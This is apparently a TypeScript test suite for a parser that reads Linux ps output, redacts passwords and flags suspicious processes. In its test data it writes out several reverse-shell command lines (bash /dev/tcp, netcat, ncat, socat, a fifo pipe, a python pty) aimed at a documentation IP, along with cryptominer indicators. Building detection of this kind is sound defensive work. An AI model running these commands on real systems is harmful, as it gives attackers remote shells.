import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fixture, parsed, readValue } from "./fixture-output";
import { processesParser } from "./processes";

type Row = {
  pid?: number;
  ppid?: number;
  user?: string;
  vsz?: number;
  stat?: string;
  comm?: string;
  args: string;
};

/** One line as procps prints it. */
function line({
  pid = 4242,
  ppid = 1,
  user = "root",
  vsz = 2592,
  stat = "S",
  comm = "x",
  args,
}: Row): string {
  const numbers = `${String(pid).padStart(7)} ${String(ppid).padStart(7)} ${user.padEnd(32)} ${"0".padStart(5)}`;
  const sizes = ` 0.0  0.0 ${String(vsz === 0 ? 0 : 1712).padStart(5)} ${String(vsz).padStart(6)}`;
  return `${numbers} ${sizes} Sun Nov 22 11:26:07 2026 ${stat.padEnd(4)} ?        ${comm.padEnd(15)} ${args}`;
}
const one = (row: Row) => {
  const [found, ...more] = readValue(processesParser, `${line(row)}\n`);
  expect(more).toEqual([]);
  return found;
};

describe("ps", () => {
  it("reads every process of a server", () => {
    const result = parsed(processesParser, fixture("web01-ps-eo"));
    expect(result.unread).toEqual([]);
    expect(result.state === "read" && result.value).toHaveLength(23);
    expect(result.state === "read" && result.value[6]).toEqual({
      pid: 57,
      ppid: 1,
      user: "root",
      started: { wall: "2026-11-22T11:18:50", offset: null },
      command: "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
      suspicion: null,
    });
  });

  it("suspects nothing on two ordinary servers", () => {
    for (const name of ["web01-ps-eo", "old01-ps-eo"]) {
      expect(readValue(processesParser, fixture(name)).filter(({ suspicion }) => suspicion !== null)).toEqual(
        [],
      );
    }
  });

  it("keeps blanks in names and arguments", () => {
    expect(one({ comm: "tmux: server", args: "tmux  new   -s x" })?.command).toBe("tmux  new   -s x");
    expect(one({ user: "EXAMPLE\\first last", args: "bash" })?.user).toBe("EXAMPLE\\first last");
    expect(one({ user: "a-user-name-that-is-exactly-32-ch", args: "bash" })?.user).toBe(
      "a-user-name-that-is-exactly-32-ch",
    );
  });

  it("is not misled by arguments that look like a line of ps", () => {
    const forged = line({ pid: 1, user: "root", args: "/sbin/init" });
    expect(one({ pid: 77, user: "mallory", args: `sh ${forged}` })).toMatchObject({
      pid: 77,
      user: "mallory",
    });
  });

  it("shows the name of a process without arguments", () => {
    expect(one({ comm: "x", args: "" })?.command).toBe("x");
  });

  it("keeps no secret, in items and in lines that it cannot read", () => {
    expect(one({ args: "app --password=hunter2" })?.command).toBe("app --password=[redacted]");
    const broken = `what --password=hunter2\n${line({ args: "init" })}`;
    expect(JSON.stringify(parsed(processesParser, broken))).not.toContain("hunter2");
  });

  it("says when ps is another one", () => {
    const stderr = "ps: bad -o argument 'user:32', supported arguments: user,group,comm";
    expect(parsed(processesParser, "", { exit: 1, stderr })).toMatchObject({
      state: "unread",
      reason: stderr,
    });
    expect(parsed(processesParser, "PID USER COMMAND\n1 root init\n")).toMatchObject({
      state: "unread",
      reason: "What was printed is not the output of this command.",
    });
    expect(parsed(processesParser, "")).toMatchObject({ reason: "The command printed nothing." });
  });

  it("never throws, and reads a line with any arguments", () => {
    const args = fc
      .string({ unit: "binary-ascii", maxLength: 200 })
      .map((text) => text.replace(/[\r\n]/g, "?"));
    fc.assert(
      fc.property(args, fc.string(), (text, noise) => {
        expect(one({ pid: 9, args: text })?.pid).toBe(9);
        expect(["read", "unread"]).toContain(parsed(processesParser, noise).state);
      }),
    );
  });
});

describe("a suspicious process", () => {
  it.each<[string, Row, RegExp]>([
    ["from /tmp", { args: "/tmp/.x/update -d" }, /runs from \/tmp, /],
    ["from /dev/shm", { args: "/dev/shm/a" }, /runs from \/dev\/shm, /],
    [
      "a script from /var/tmp",
      { args: "/usr/bin/python3 /var/tmp/s.py" },
      /python3 runs a script from \/var\/tmp/,
    ],
    ["with a kernel thread's title", { args: "[kworker/0:1]", vsz: 2592 }, /like a kernel thread/],
    [
      "with a kernel thread's title and another parent",
      { args: "[kworker/0:1]", vsz: 0 },
      /like a kernel thread/,
    ],
    [
      "with a kernel thread's name and a path",
      { comm: "kworker/u8:2", args: "/usr/lib/x" },
      /kworker\/u8:2 like/,
    ],
    [
      "a shell over the network",
      { args: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
      /reverse shell/,
    ],
    ["netcat with a shell", { args: "/bin/nc -e /bin/sh 203.0.113.9 4444" }, /reverse shell/],
    ["ncat with a shell", { args: "ncat --exec /bin/bash 203.0.113.9 4444" }, /reverse shell/],
    [
      "socat with a shell",
      { args: "socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr" },
      /reverse shell/,
    ],
    [
      "a pipe to a shell",
      { args: "sh -c rm /run/f;mkfifo /run/f;cat /run/f|/bin/sh -i|nc 203.0.113.9 1 >/run/f" },
      /reverse/,
    ],
    [
      "python with a shell",
      { args: 'python3 -c import socket,os,pty;s=socket.socket();pty.spawn("sh")' },
      /reverse/,
    ],
    ["a miner by name", { comm: "xmrig", args: "./xmrig" }, /miner/],
    ["a miner by its pool", { args: "./a -o stratum+tcp://pool.example:3333" }, /mining pool/],
    ["kinsing", { comm: "kinsing", args: "/etc/kinsing" }, /kinsing is the name/],
  ])("is one %s", (_, row, why) => {
    expect(one(row)?.suspicion).toMatch(why);
  });

  it.each<[string, Row]>([
    ["a kernel thread", { pid: 30, ppid: 2, vsz: 0, comm: "kworker/0:1", args: "[kworker/0:1]" }],
    [
      "a kernel thread with a long name",
      { ppid: 2, vsz: 0, comm: "kworker/u16:3-events_unbound", args: "[kworker/u16:3-events_unbound]" },
    ],
    ["kthreadd", { pid: 2, ppid: 0, vsz: 0, comm: "kthreadd", args: "[kthreadd]" }],
    ["a zombie", { stat: "Z", vsz: 0, comm: "sh", args: "[sh] <defunct>" }],
    ["Celery's title", { comm: "celery", args: "[celeryd: worker1:MainProcess] -active-" }],
    ["the watchdog daemon", { comm: "watchdog", args: "/usr/sbin/watchdog" }],
    ["an editor of a file in /tmp", { comm: "vim", args: "vim /tmp/x" }],
    ["a health check", { args: "bash -c echo > /dev/tcp/localhost/8080" }],
    ["a port test", { args: "timeout 1 bash -c </dev/tcp/db.example/5432" }],
    ["netcat as a server of a socket", { args: "nc -l -p 8080" }],
    ["a python one-liner", { args: "python3 -c import socket; print(socket.gethostname())" }],
    ["monitoring", { args: "/usr/bin/python3 /opt/app/miner_stats.py" }],
  ])("is not %s", (_, row) => {
    expect(one(row)?.suspicion).toBeNull();
  });
});
